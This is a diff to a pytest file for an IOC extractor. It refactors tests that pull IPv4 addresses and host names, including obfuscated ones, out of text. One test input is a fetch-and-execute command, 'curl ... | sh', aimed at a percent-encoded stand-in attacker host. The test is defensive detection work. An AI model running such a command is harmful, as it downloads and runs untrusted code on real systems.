@@ -10,11 +10,15 @@ from __future__ import annotations
 
 import pytest
 
-from asisdk.ioc import IocExtractor, refang
+from asisdk.ioc import IocExtractor, IocMatch, refang
 
 
 def _found(text: str, ioc_type: str) -> set[str]:
     return IocExtractor().extract(text, types=[ioc_type])[ioc_type]
+
+
+def _matches(text: str, ioc_type: str) -> list[IocMatch]:
+    return [m for m in IocExtractor().finditer(text) if m.type == ioc_type]
 
 
 # ------------------------------------------------------------------ escaped local parts
@@ -348,7 +352,7 @@ def test_drive_after_other_backslash_text_is_no_path() -> None:
 def test_a_host_written_in_other_numbers_gives_its_address(
     text: str, address: str, raw: str
 ) -> None:
-    found = [m for m in IocExtractor().finditer(text) if m.type == "ipv4"]
+    found = _matches(text, "ipv4")
     assert [(m.value, m.raw) for m in found] == [(address, raw)]
     assert text[found[0].start : found[0].end] == raw
 
@@ -380,7 +384,7 @@ def test_numbers_that_are_no_address_give_none(text: str) -> None:
     ],
 )
 def test_a_hexadecimal_address_given_to_a_network_tool(text: str, address: str, raw: str) -> None:
-    found = [m for m in IocExtractor().finditer(text) if m.type == "ipv4"]
+    found = _matches(text, "ipv4")
     assert [(m.value, m.raw) for m in found] == [(address, raw)]
 
 
@@ -400,7 +404,7 @@ def test_hexadecimal_numbers_elsewhere_are_no_address(text: str) -> None:
 
 def test_a_percent_encoded_host_name_gives_the_name() -> None:
     text = "curl http://%65%76%69%6c-cdn.com/x.sh | sh"
-    found = [m for m in IocExtractor().finditer(text) if m.type == "dns"]
+    found = _matches(text, "dns")
     assert [(m.value, m.raw) for m in found] == [("evil-cdn.com", "%65%76%69%6c-cdn.com")]
     assert _found(text, "url") == {"http://%65%76%69%6c-cdn.com/x.sh"}
     # escapes of anything but a host name are no host
